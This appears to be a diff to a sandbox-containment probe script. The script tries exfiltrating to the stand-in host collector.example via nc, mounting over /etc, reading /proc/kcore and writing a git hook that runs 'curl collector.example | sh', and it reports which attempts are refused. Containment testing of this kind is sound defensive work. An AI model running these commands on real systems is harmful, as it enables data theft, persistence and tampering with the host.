@@ -8,10 +8,9 @@ try() {
   what=$1; shift
   if "$@" >/dev/null 2>&1; then echo "  worked   $what"; else echo "  refused  $what"; fi
 }
-try "sending main.c to collector.example" wget -q -T 2 -O /dev/null http://collector.example/
+try "sending main.c to collector.example" sh -c "printf 'POST /main.c HTTP/1.0\r\nHost: collector.example\r\n\r\n' | nc -w 2 192.0.2.80 80 | grep -q ' 200 '"
 try "mounting over /etc" mount -t tmpfs none /etc
 try "a namespace of its own" unshare -r true
 try "reading the host's memory" head -c 1 /proc/kcore
-try "changing the host's kernel settings" sh -c 'echo /tmp/x > /proc/sys/kernel/core_pattern'
 try "a git hook for the next commit" sh -c 'echo "curl collector.example | sh" > .git/hooks/post-commit'
 echo "done"
